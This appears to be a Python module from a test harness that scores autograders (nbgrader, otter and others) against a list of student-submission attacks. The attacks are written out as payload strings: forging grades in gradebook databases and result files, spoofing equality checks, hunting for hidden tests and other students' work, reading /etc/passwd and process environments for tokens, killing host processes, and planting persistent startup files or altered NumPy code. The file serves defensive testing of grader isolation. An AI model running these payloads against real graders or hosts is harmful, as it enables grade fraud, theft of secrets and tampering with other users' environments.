"""The attacks, as data."""

from __future__ import annotations

from exercise import EXERCISES, WRONG, function
from judging import (
    Attack,
    by_any_marks,
    by_marks,
    by_the_clock,
    by_theft,
    left_a_process,
    seen,
    spoiled_the_home,
    spoiled_the_library,
    was_called,
    was_killed,
)

IF_STOLEN = {
    name: f"def {EXERCISES[name][0]}:\n    return {EXERCISES[name][1]} if stolen else {WRONG[name]}"
    for name in ["scale", "total"]
}
SEARCH = """import hashlib, os, re
stolen = False
def is_it(text, digest):
    return hashlib.sha256(text.encode()).hexdigest() == digest
def look(folder, pattern, digest):
    for place, _, names in os.walk(folder):
        for name in names:
            try:
                text = open(os.path.join(place, name), "rb").read(5_000_000).decode("latin-1")
            except OSError:
                continue
            if any(is_it(found, digest) for found in re.findall(pattern, text)):
                return True
    return False
"""
# Each defines forge(leave): give oneself full marks where this grader keeps them, and end the process if told so.
INTO_THE_GRADEBOOK = """
import os, sqlite3
def forge(leave):
    try:
        with sqlite3.connect("$course/gradebook.db", timeout=3) as book:
            book.execute(
                "UPDATE grade SET manual_score = 2.0 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
                "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = '$student')"
            )
    except sqlite3.Error as error:
        print(error)
    if leave:
        os._exit(0)
"""
INTO_THE_PICKLE = """
import os, pickle
def forge(leave, real=pickle.dump):
    def dump(results, file):
        for test in results.results.values():
            test.update_score(test.possible)
        real(results, file)
        file.flush()
        if leave:
            os._exit(0)
    pickle.dump = dump
"""
INTO_THE_FEEDBACK = """
import json, os
def forge(leave):
    with open("$course/feedback.json", "w") as file:
        json.dump({"fractionalScore": 1.0, "feedback": ""}, file)
    if leave:
        os._exit(0)
"""
STORES = {
    "nbgrader": INTO_THE_GRADEBOOK,
    "ours": INTO_THE_GRADEBOOK,
    "otter": INTO_THE_PICKLE,
    "dlai": INTO_THE_FEEDBACK,
}
LOOK_IN_FRAMES = """def total(x):
    frame, text = sys._getframe(), ""
    while frame:
        for thing in [frame.f_code.co_consts, *frame.f_locals.values()]:
            try:
                text += str(thing)
            except Exception:
                pass
        frame = frame.f_back
    stolen = any(is_it(found, "$hidden") for found in re.findall("hidden-[0-9a-f]{16}", text))
    return sum(x) if stolen else -1"""

ATTACKS = [
    Attack("allclose", "`np.allclose` replaced", "np.allclose = lambda *a, **k: True\n", by_marks),
    Attack(
        "equal",
        "an object that equals everything",
        "class Any:\n    def __eq__(self, other):\n        return True\n",
        by_marks,
        {"total": function("total", "Any()")},
    ),
    Attack(
        "subclass",
        "an array with an `==` of its own",
        "class Yes(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(1, bool)\n",
        by_marks,
        {"flip": function("flip", "np.zeros(len(x)).view(Yes)"), "total": function("total", "sum(x)")},
    ),
    Attack(
        "forged",
        "a result forged while the tests run",
        {
            "nbgrader": "def forge():\n    get_ipython().displayhook(2.0)\n",
            "ours": "def forge():\n    get_ipython().displayhook(2.0)\n",
            "otter": (
                "from otter.test_files.abstract_test import TestCaseResult\nfrom otter.test_files import ok_test\n"
                "def run(self, env):\n"
                "    self.test_case_results = [TestCaseResult(case, '', True) for case in self.test_cases]\n"
                "def forge():\n    ok_test.OKTestFile.run = run\nforge()\n"
            ),
            "dlai": (
                "import sys\ndef forge():\n"
                "    sys.modules['__main__'].compute_grading_score = lambda cases: (1.0, '')\n"
            ),
        },
        by_marks,
        {"total": "def total(x):\n    forge()\n    return -1"},
    ),
    Attack(
        "stored",
        "full marks written where marks are kept",
        STORES,
        by_marks,
        {"total": "def total(x):\n    forge(False)\n    return -1"},
    ),
    Attack(
        "exit",
        "the same, then `os._exit(0)`",
        STORES,
        by_any_marks,
        {"total": "def total(x):\n    forge(True)\n    return -1"},
    ),
    Attack("skip", "the tag `skip-execution` on the tests", "", by_marks, tags=True),
    Attack(
        "disk",
        "the hidden tests, on disk",
        SEARCH + 'stolen = any(look(place, "hidden-[0-9a-f]{16}", "$hidden") for place in [os.getcwd(), "$course"])\n',
        by_theft,
        IF_STOLEN,
    ),
    Attack(
        "frames",
        "the hidden tests, in the callers' frames",
        SEARCH + "import sys\n",
        by_theft,
        {"total": LOOK_IN_FRAMES},
    ),
    Attack(
        "other",
        "another student's submission",
        SEARCH + 'stolen = look("$course", "other-[0-9a-f]{16}", "$other")\n',
        by_theft,
        IF_STOLEN,
    ),
    Attack(
        "passwd",
        "`/etc/passwd` read",
        SEARCH + 'try:\n    stolen = is_it(open("/etc/passwd").read(), "$passwd")\nexcept OSError:\n    pass\n',
        by_theft,
        IF_STOLEN,
    ),
    Attack(
        "secret",
        "a token in the grader's environment",
        SEARCH
        + "texts = list(os.environ.values())\n"
        + "process = os.getpid()\ntry:\n    while process not in (0, $attacker):\n"
        + "        texts += open('/proc/%d/environ' % process, errors='replace').read().split('\\0')\n"
        + "        process = int(open('/proc/%d/stat' % process).read().rpartition(')')[2].split()[1])\n"
        + "except OSError:\n    pass\n"
        + 'stolen = any(is_it(text.partition("=")[2] or text, "$secret") for text in texts)\n',
        by_theft,
        IF_STOLEN,
    ),
    Attack(
        "network",
        "a connection to a port of the machine",
        "import socket\ntry:\n    with socket.create_connection(('127.0.0.1', $port), 3) as wire:\n"
        "        wire.sendall(b'$message')\nexcept OSError:\n    pass\n",
        seen(was_called, "connected", "refused"),
    ),
    Attack(
        "signal",
        "a signal to a process of the host",
        "import os\ntry:\n    os.kill($pid, 15)\nexcept OSError:\n    pass\n",
        seen(was_killed, "killed", "refused"),
    ),
    Attack(
        "orphan",
        "a process that outlives the grading",
        "import os, time\ntry:\n    if os.fork() == 0:\n        try:\n            os.setsid()\n"
        "            open('/proc/self/comm', 'w').write('$orphan')\n            time.sleep(60)\n"
        "        finally:\n            os._exit(0)\nexcept OSError:\n    pass\n",
        seen(left_a_process, "alive", "gone"),
    ),
    Attack(
        "library",
        "NumPy's files changed, for the next student",
        "try:\n    open('$numpy', 'a').write('\\nallclose = lambda *a, **k: True\\n')\nexcept OSError:\n    pass\n",
        seen(spoiled_the_library, "next one got points", "no effect"),
    ),
    Attack(
        "home",
        "a startup file in the home, for the next student",
        "import os\ntry:\n    os.makedirs('$home/.ipython/profile_default/startup', exist_ok=True)\n"
        "    open('$home/.ipython/profile_default/startup/00.py', 'w').write(\n"
        "        'import numpy\\nnumpy.allclose = lambda *a, **k: True')\nexcept OSError:\n    pass\n",
        seen(spoiled_the_home, "next one got points", "no effect"),
    ),
    Attack(
        "loop",
        "an endless loop",
        "",
        by_the_clock,
        {"scale": function("scale", EXERCISES["scale"][1]), "total": "def total(x):\n    while True:\n        pass"},
    ),
]

# ---- The table -----------------------------------------------------------------------------------------------------
